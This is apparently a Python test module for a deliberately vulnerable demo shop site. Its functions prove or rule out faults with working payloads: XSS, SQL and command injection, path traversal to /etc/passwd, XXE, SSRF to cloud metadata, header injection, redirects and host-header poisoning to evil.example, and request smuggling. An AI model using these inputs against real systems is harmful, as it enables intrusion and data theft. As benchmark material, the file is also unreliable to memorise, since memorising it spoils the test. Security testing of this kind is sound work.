"""How each fault of the site is shown."""

import base64
import re
import socket
from urllib.parse import quote, urlsplit

from tests.assets.targets.proofs.asking import Setting, grows, harmless, proves, submit, token_of, told_apart
from tests.assets.targets.proofs.of_api_injection import ENTITY, METADATA, quoted

MARKUP = "<svg onload=x>"
EVIL = "https://evil.example/"


@proves("site.xss.query")
def xss_query(setting: Setting) -> bool:
    return MARKUP in setting.nobody().get("/search", params={"q": MARKUP}).text


@proves("site.xss.path")
def xss_path(setting: Setting) -> bool:
    return MARKUP in setting.nobody().get("/tags/%3Csvg%20onload=x%3E").text


@proves("site.xss.cookie")
def xss_cookie(setting: Setting) -> bool:
    return MARKUP in setting.nobody().get("/welcome", headers={"Cookie": f"theme={quote(MARKUP)}"}).text


@proves("site.xss.header")
def xss_header(setting: Setting) -> bool:
    return MARKUP in setting.nobody().get("/thanks", headers={"Referer": MARKUP}).text


@proves("site.xss.stored")
def xss_stored(setting: Setting) -> bool:
    submit(setting.nobody(), "/comments", {"text": MARKUP})
    return MARKUP in setting.nobody().get("/comments").text


@harmless("/find, /guestbook, /blog/ and /api/suggest do not show markup as markup")
def escaped(setting: Setting) -> bool:
    client = setting.nobody()
    submit(client, "/guestbook", {"text": MARKUP})
    pages = [
        client.get("/find", params={"q": MARKUP}),
        client.get("/guestbook"),
        client.get("/blog/%3Csvg%20onload=x%3E"),
    ]
    suggested = client.get("/api/suggest", params={"q": MARKUP})
    return (
        all(MARKUP not in page.text and "&lt;svg" in page.text for page in pages)
        and suggested.headers["content-type"] == "application/json"
    )


@proves("site.sql.query")
def sql_query(setting: Setting) -> bool:
    ask = setting.nobody()
    return told_apart(lambda word: ask.get("/catalogue", params={"category": word}).text, *quoted("kettles"))


@proves("site.sql.path")
def sql_path(setting: Setting) -> bool:
    ask = setting.nobody()
    return told_apart(lambda word: ask.get(f"/catalogue/{word}").text, *quoted("copper-kettle"))


@proves("site.sql.login")
def sql_login(setting: Setting) -> bool:
    client = setting.nobody()
    submit(client, "/login", {"username": "alice' -- ", "password": "x"})
    return "alice@shop.test" in client.get("/account").text


@harmless("/stores fails on a quotation mark with a general page, as /calendar does on a word")
def general_failures(setting: Setting) -> bool:
    pages = [setting.nobody().get("/stores", params={"city": "'"}), setting.nobody().get("/calendar?month=x")]
    return all(page.status_code == 500 and "sqlite" not in page.text and "Traceback" not in page.text for page in pages)


@proves("site.path.download")
def path(setting: Setting) -> bool:
    return "root:" in setting.nobody().get("/download", params={"file": "../" * 12 + "etc/passwd"}).text


@harmless("/brochures stays in its folder")
def path_is_safe(setting: Setting) -> bool:
    ask = setting.nobody()
    found = ask.get("/brochures", params={"name": "../" * 12 + "etc/passwd"}).status_code
    return found == 404 and ask.get("/brochures?name=summer.txt").status_code == 200


@proves("site.command.lookup")
def command(setting: Setting) -> bool:
    return "7000007" in setting.nobody().get("/tools/lookup", params={"host": "x; echo $((1000001*7))"}).text


@proves("site.template.card")
def template(setting: Setting) -> bool:
    return "1337" in submit(setting.nobody(), "/cards", {"text": "{{7*191}}"}).text


@proves("site.xxe.feed")
def xxe(setting: Setting) -> bool:
    return "root:" in submit(setting.nobody(), "/import", {}, files={"feed": ("feed.xml", ENTITY)}).text


@proves("site.ssrf.preview")
def ssrf(setting: Setting) -> bool:
    return "instance-id" in submit(setting.nobody(), "/preview", {"url": METADATA}).text


@proves("site.header.language")
def header(setting: Setting) -> bool:
    return setting.nobody().get("/language?to=en%0d%0aX-Own:%20yes").headers.get("x-own") == "yes"


@proves("site.ldap.directory")
def ldap(setting: Setting) -> bool:
    ask = setting.nobody()

    def found(word: str) -> bool:
        return "North 4" in ask.get("/directory", params={"name": word}).text

    return found("*)(cn=Ad*") and not found("*)(cn=Zz*")


@proves("site.xpath.branches")
def xpath(setting: Setting) -> bool:
    ask = setting.nobody()
    found = ["Bridge Street" in ask.get("/branches", params={"city": f"x' or '1'='{end}"}).text for end in ("1", "2")]
    return found == [True, False]


@proves("site.redos.newsletter")
def redos(setting: Setting) -> bool:
    client = setting.nobody()
    token = token_of(client, "/newsletter")
    return grows(lambda text: client.post("/newsletter", data={"csrf": token, "email": text}))


@harmless("the pages do their work for honest input")
def pages_work(setting: Setting) -> bool:
    client = setting.nobody()
    return all(
        (
            "Mill Lane" in client.get("/branches?city=York").text,
            "North 4" in client.get("/directory?name=Ada").text,
            "Copper kettle" in client.get("/catalogue/copper-kettle").text,
            "Thank you" in submit(client, "/newsletter", {"email": "a@shop.test"}).text,
            "Dear friend" in submit(client, "/cards", {"text": "Dear {{ name }}"}).text,
            "Ada" in submit(client, "/import", {}, files={"feed": ("feed.xml", b"<c><name>Ada</name></c>")}).text,
            setting.nobody().get("/region?to=a%0d%0aX-Own:1").status_code == 400,
        )
    )


@proves("site.redirect.go")
def redirect_go(setting: Setting) -> bool:
    return setting.nobody().get("/go", params={"to": EVIL}).headers["location"] == EVIL


@proves("site.redirect.bounce")
def redirect_bounce(setting: Setting) -> bool:
    return setting.nobody().get("/bounce", params={"to": "//evil.example/"}).headers["location"] == "//evil.example/"


@proves("site.redirect.login-next")
def redirect_login(setting: Setting) -> bool:
    form = {"username": "alice", "password": setting.password("alice"), "next": EVIL}
    return submit(setting.nobody(), "/login", form).headers["location"] == EVIL


@harmless("/leave and /back lead only to partners and to the site")
def redirects_are_safe(setting: Setting) -> bool:
    ask = setting.nobody()
    away = [
        ask.get(path, params={"to": to}).headers.get("location", "")
        for path in ("/leave", "/back")
        for to in (
            EVIL,
            "//evil.example",
            "/\\evil.example",
            "https://partner.shop.test@evil.example/",
            "/\t/evil.example",
        )
    ]
    return not any("evil" in one for one in away) and ask.get("/leave?to=https://partner.shop.test/").status_code == 302


@proves("site.enumeration.login")
def login_tells(setting: Setting) -> bool:
    pages = [
        submit(setting.nobody(), "/login", {"username": name, "password": "x"}).text for name in ("alice", "nobody7")
    ]
    return without_token(pages[0]) != without_token(pages[1])


def without_token(text: str) -> str:
    return re.sub(r'name="csrf" value="[^"]+"', "", text)


@proves("site.enumeration.forgot")
def forgot_tells(setting: Setting) -> bool:
    pages = [submit(setting.nobody(), "/forgot", {"email": f"{name}@shop.test"}).text for name in ("alice", "nobody7")]
    return pages[0] != pages[1]


@proves("site.enumeration.register")
def register_tells(setting: Setting) -> bool:
    pages = [
        submit(setting.nobody(), "/register", {"username": name, "password": "x"}).text for name in ("alice", "nobody7")
    ]
    return pages[0] != pages[1]


@proves("site.rate.login")
def login_is_unlimited(setting: Setting) -> bool:
    client = setting.nobody()
    return all(submit(client, "/login", {"username": "alice", "password": "x"}).status_code == 200 for _ in range(10))


@proves("site.session.fixation")
def fixation(setting: Setting) -> bool:
    client = setting.nobody()
    client.get("/login")
    before = client.cookies["sid"]
    submit(client, "/login", {"username": "alice", "password": setting.password("alice")})
    return before == client.cookies["sid"] and client.get("/account").status_code == 200


def with_session(setting: Setting, session: str, path: str = "/account") -> int:
    return setting.nobody().get(path, headers={"Cookie": f"sid={session}"}).status_code


@proves("site.session.logout")
def logout(setting: Setting) -> bool:
    client = setting.visitor("alice")
    session = client.cookies["sid"]
    client.get("/logout")
    return with_session(setting, session) == 200


@proves("site.session.password-change")
def password_change(setting: Setting) -> bool:
    other, client = setting.visitor("alice").cookies["sid"], setting.visitor("alice")
    form = {"old_password": setting.password("alice"), "new_password": "alice-Runs-9"}
    changed = submit(client, "/account/password", form, page="/account").status_code == 302
    return changed and with_session(setting, other) == 200


@proves("site.cookie.remember")
def remember(setting: Setting) -> bool:
    cookie = base64.b64encode(b"bob").decode()
    return "bob@shop.test" in setting.nobody().get("/account", headers={"Cookie": f"remember={cookie}"}).text


@proves("site.cookie.role")
def role(setting: Setting) -> bool:
    session = setting.visitor("alice").cookies["sid"]
    answer = setting.nobody().get("/staff", headers={"Cookie": f"sid={session}; role=staff"})
    return "cellar" in answer.text and with_session(setting, session, "/staff") == 403


def alices_order(setting: Setting) -> str:
    found = re.search(r'/orders/(\d+)"', setting.visitor("alice").get("/orders").text)
    return found[1] if found else ""


@proves("site.bola.order")
def bola(setting: Setting) -> bool:
    return "for alice" in setting.visitor("bob").get(f"/orders/{alices_order(setting)}").text


@proves("site.missing.receipt")
def receipt(setting: Setting) -> bool:
    return "for alice" in setting.nobody().get(f"/receipts/{alices_order(setting)}").text


@proves("site.bfla.reports")
def reports(setting: Setting) -> bool:
    pages = [setting.visitor(name).get("/staff/reports").text for name in ("alice", "stella")]
    return pages[0] == pages[1]


@harmless("/staff/settings is for staff only, whatever the cookie says")
def settings_are_safe(setting: Setting) -> bool:
    alice, stella = setting.visitor("alice"), setting.visitor("stella")
    answer = setting.nobody().get("/staff/settings", headers={"Cookie": f"sid={alice.cookies['sid']}; role=staff"})
    return answer.status_code == 403 and stella.get("/staff/settings").status_code == 200


@proves("site.mass.membership")
def membership(setting: Setting) -> bool:
    client = setting.visitor("alice")
    submit(client, "/account", {"display_name": "Alice", "membership": "golden"})
    return "golden" in client.get("/account").text


@proves("site.csrf.email")
def csrf(setting: Setting) -> bool:
    client = setting.visitor("alice")
    client.post("/account/email", data={"email": "else@shop.test"})
    return "else@shop.test" in client.get("/account").text


@harmless("POST /account needs the token; /account/email takes no other field; /account/pin is limited with 200")
def forms_are_safe(setting: Setting) -> bool:
    client = setting.visitor("alice")
    refused = client.post("/account", data={"display_name": "x"}).status_code == 400
    submit(client, "/account/email", {"email": "a@shop.test", "membership": "golden"}, page="/account")
    last = [submit(client, "/account/pin", {"pin": "0000"}, page="/account") for _ in range(8)][-1]
    return (
        refused and "golden" not in client.get("/account").text and last.status_code == 200 and "Too many" in last.text
    )


@proves("site.config.csp-missing")
def csp_missing(setting: Setting) -> bool:
    return "content-security-policy" not in setting.nobody().get("/").headers


@proves("site.config.csp-weak")
def csp_weak(setting: Setting) -> bool:
    return "'unsafe-inline'" in setting.nobody().get("/portal").headers.get("content-security-policy", "")


@proves("site.config.nosniff")
def nosniff(setting: Setting) -> bool:
    return "x-content-type-options" not in setting.nobody().get("/").headers


@proves("site.config.framing")
def framing(setting: Setting) -> bool:
    headers = setting.nobody().get("/").headers
    return "x-frame-options" not in headers and "frame-ancestors" not in headers.get("content-security-policy", "")


def session_cookie(setting: Setting) -> str:
    return setting.nobody().get("/login").headers["set-cookie"].lower()


@proves("site.cookie.httponly")
def httponly(setting: Setting) -> bool:
    return "httponly" not in session_cookie(setting)


@proves("site.cookie.samesite")
def samesite(setting: Setting) -> bool:
    return "samesite" not in session_cookie(setting)


@proves("site.config.server-header")
def server_header(setting: Setting) -> bool:
    return "apache" in setting.nobody().get("/").headers.get("server", "").lower()


@proves("site.config.trace")
def trace(setting: Setting) -> bool:
    return "marker-7" in setting.nobody().request("TRACE", "/", headers={"X-Sent": "marker-7"}).text


@proves("site.config.smuggling")
def smuggling(setting: Setting) -> bool:
    """The second request lies within the first one's chunk: only who believes the length answers it."""
    hidden = b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (len(hidden), hidden)
    length = chunk.index(b"GET")
    head = b"POST /find HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n" % length
    with socket.create_connection(("127.0.0.1", urlsplit(setting.target.url).port or 0), timeout=5) as connection:
        connection.sendall(head + chunk)
        answer = b""
        while part := connection.recv(65_536):
            answer += part
    return b'"status"' in answer


@proves("site.config.console")
def console(setting: Setting) -> bool:
    return "Interactive Console" in setting.nobody().get("/console").text


@proves("site.config.traceback")
def traceback(setting: Setting) -> bool:
    return "Traceback" in setting.nobody().get("/calculator?amount=x").text


@proves("site.config.listing")
def listing(setting: Setting) -> bool:
    return "Index of" in setting.nobody().get("/static/uploads/").text


@proves("site.exposed.git")
def git(setting: Setting) -> bool:
    return (
        setting.nobody().get("/.git/HEAD").text.startswith("ref:")
        and "[core]" in setting.nobody().get("/.git/config").text
    )


@proves("site.exposed.env")
def env(setting: Setting) -> bool:
    return "SECRET_KEY=" in setting.nobody().get("/.env").text


@proves("site.exposed.backup")
def backup(setting: Setting) -> bool:
    return "CREATE TABLE" in setting.nobody().get("/backup.sql").text


@proves("site.exposed.status")
def status(setting: Setting) -> bool:
    return "Server uptime" in setting.nobody().get("/server-status").text


@harmless("/blog/ answers 200 for everything; /static/ and what is not there do not")
def soft_and_hard(setting: Setting) -> bool:
    ask = setting.nobody()
    soft = [ask.get(path) for path in ("/blog/.env", "/blog/.git", "/blog/x7")]
    hard = [ask.get("/static/").status_code, ask.get("/x7").status_code]
    return all(page.status_code == 200 and "SECRET" not in page.text for page in soft) and hard == [403, 404]


@proves("site.cors.prefix")
def cors(setting: Setting) -> bool:
    origin = f"{setting.target.url}.evil.example"
    headers = setting.visitor("alice").get("/api/profile", headers={"Origin": origin}).headers
    return headers.get("access-control-allow-origin") == origin


@proves("site.config.host-header")
def host_header(setting: Setting) -> bool:
    return "evil.example" in setting.nobody().get("/", headers={"X-Forwarded-Host": "evil.example"}).text


@proves("site.config.reset-host")
def reset_host(setting: Setting) -> bool:
    client = setting.visitor("alice")
    submit(client, "/forgot", {"email": "alice@shop.test"}, headers={"X-Forwarded-Host": "evil.example"})
    return "evil.example/reset/" in client.get("/outbox").text


@proves("site.cache.news")
def cache(setting: Setting) -> bool:
    setting.nobody().get("/news?own=1", headers={"X-Forwarded-Host": "evil.example"})
    return "evil.example" in setting.nobody().get("/news?own=1").text and not setting.target.harm()


@proves("site.upload.avatar")
def upload(setting: Setting) -> bool:
    client = setting.visitor("alice")
    page = submit(client, "/avatar", {}, files={"picture": ("page.html", MARKUP.encode())}).text
    names = re.findall(r"[\w-]+page\.html", page)
    return bool(names) and client.get(f"/static/uploads/{names[0]}").headers["content-type"].startswith("text/html")


@harmless("/attachments are downloads")
def attachments_are_safe(setting: Setting) -> bool:
    client = setting.visitor("alice")
    page = submit(client, "/attachments", {}, files={"attachment": ("page.html", MARKUP.encode())}).text
    name = re.findall(r"/attachments/([\w-]+page\.html)", page)[0]
    return client.get(f"/attachments/{name}").headers["content-type"] == "application/octet-stream"


@harmless("cancelling, deleting, announcing, tidying and the silent writer are recorded as destructive")
def destruction_is_recorded(setting: Setting) -> bool:
    alice, stella = setting.visitor("alice"), setting.visitor("stella")
    submit(alice, f"/orders/{alices_order(setting)}/cancel", {}, page="/orders"), alice.get("/statistics")
    submit(stella, "/staff/announce", {"text": "x"}, page="/staff"), submit(stella, "/staff/tidy", {}, page="/staff")
    submit(alice, "/account/delete", {}, page="/account")
    return len({effect["route"] for effect in setting.target.harm() if effect["destructive"]}) == 5


@harmless("the login is limited when repaired, and whoever waits comes in again")
def limited_login(setting: Setting) -> bool:
    client = setting.nobody()
    last = [submit(client, "/login", {"username": "bob", "password": "x"}) for _ in range(8)][-1]
    return last.status_code == (429 if setting.repaired else 200)
